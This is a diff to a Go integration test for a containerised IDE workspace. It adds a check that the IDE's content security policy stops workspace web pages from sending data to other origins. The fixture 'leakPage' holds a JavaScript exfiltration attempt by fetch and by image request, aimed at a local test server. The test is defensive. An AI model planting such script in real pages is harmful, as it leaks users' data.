@@ -9,6 +9,7 @@ import (
 	"net"
 	"net/http"
 	"net/http/cookiejar"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -164,11 +165,13 @@ func TestIntegrationWorkspaceIDE(t *testing.T) {
 	e := podmantest.Need(t)
 	w := newWorkspace(t, e, "")
 	gitRepo(t, w)
-	if err := os.WriteFile(filepath.Join(w.repo, "hello.txt"), []byte("hello from the workspace\n"), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	if os.Getuid() == 0 {
-		_ = os.Chown(filepath.Join(w.repo, "hello.txt"), 1000, 1000)
+	for name, data := range map[string]string{"hello.txt": "hello from the workspace\n", "page.html": leakPage} {
+		if err := os.WriteFile(filepath.Join(w.repo, name), []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if os.Getuid() == 0 {
+			_ = os.Chown(filepath.Join(w.repo, name), 1000, 1000)
+		}
 	}
 	cli := workspaceCLI(t, e, w, "ide")
 
@@ -249,6 +252,8 @@ func TestIntegrationWorkspaceIDE(t *testing.T) {
 	if code, out, stderr := cli("exec", "--name", "ide", "--", "sh", "-c", search); code != 0 || strings.TrimSpace(out) != "searched" {
 		t.Errorf("the token is visible inside the container: exit %d, %q\n%s", code, out, stderr)
 	}
+
+	checkIDEPageCannotLeave(t, srv, w)
 
 	// Ctrl-C: code-server stops inside, the workspace stays up.
 	if code := srv.stop(t); code != 0 || !strings.Contains(srv.stderr.String(), "workspace ide is still up") {
@@ -336,5 +341,60 @@ func checkIDEInBrowser(t *testing.T, e *podmantest.Env, w *workspace) {
 	t.Logf("the IDE as Chromium renders it: %s", shot)
 	if code := srv.stop(t); code != 0 {
 		t.Errorf("Ctrl-C: exit %d\n%s", code, srv.stderr.String())
+	}
+}
+
+// leakPage is web content an agent could write (a webview, a previewed file): in the user's
+// browser it tries to send data to the origin after '#', by fetch and by an image.
+const leakPage = `<!doctype html><title>waiting</title><script>
+const target = location.hash.slice(1);
+Promise.all([
+  fetch(target + "/fetch?data=workspace").then(() => "sent", () => "blocked"),
+  new Promise(r => { const i = new Image(); i.onload = () => r("sent"); i.onerror = () => r("blocked"); i.src = target + "/img?data=workspace"; }),
+]).then(v => { document.title = "done " + v.join(" "); });
+</script>`
+
+// checkIDEPageCannotLeave opens, in headless Chromium holding the IDE's cookie, a page from
+// the workspace that tries to reach another origin on this host: the IDE's content policy
+// blocks both the fetch and the image, and nothing arrives. The same page served without the
+// policy reaches it — the control that shows the browser would otherwise let it out.
+func checkIDEPageCannotLeave(t *testing.T, srv *ideServing, w *workspace) {
+	t.Helper()
+	var hits sync.Map
+	outside := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		hits.Store(r.URL.Path, true)
+		rw.Header().Set("Access-Control-Allow-Origin", "*")
+		if r.URL.Path == "/img" {
+			rw.Header().Set("Content-Type", "image/gif")
+			_, _ = rw.Write([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"))
+		}
+	}))
+	defer outside.Close()
+	control := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
+		_, _ = io.WriteString(rw, leakPage)
+	}))
+	defer control.Close()
+
+	b := chromiumtest.Start(t)
+	page := b.Open(t, srv.url) // the token, then the cookie
+	page.WaitFor(`document.readyState === "complete"`, time.Minute)
+	page.Navigate("http://127.0.0.1:" + srv.port + "/page.html#" + outside.URL)
+	page.WaitFor(`document.title.startsWith("done")`, time.Minute)
+	var title string
+	_ = page.Eval("document.title", &title)
+	if title != "done blocked blocked" {
+		t.Errorf("workspace content in the IDE's origin reached another origin: %q", title)
+	}
+	time.Sleep(time.Second)
+	hits.Range(func(k, _ any) bool {
+		t.Errorf("another origin received %s from the IDE's page", k)
+		return true
+	})
+
+	page.Navigate(control.URL + "/page.html#" + outside.URL)
+	page.WaitFor(`document.title.startsWith("done")`, time.Minute)
+	_ = page.Eval("document.title", &title)
+	if _, ok := hits.Load("/fetch"); title != "done sent sent" || !ok {
+		t.Errorf("control: the same page without the IDE's policy gave %q (fetch arrived: %v); the check above proves nothing", title, ok)
 	}
 }
